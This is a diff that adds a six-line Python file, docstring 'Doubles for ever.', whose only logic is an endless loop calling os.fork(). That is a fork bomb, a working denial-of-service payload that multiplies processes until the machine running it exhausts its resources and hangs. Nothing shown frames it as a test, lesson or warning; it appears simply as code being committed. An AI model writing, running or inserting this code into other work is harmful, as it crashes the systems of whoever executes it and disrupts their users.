@@ -1,0 +1,6 @@
+"""Doubles for ever."""
+
+import os
+
+while True:
+    os.fork()
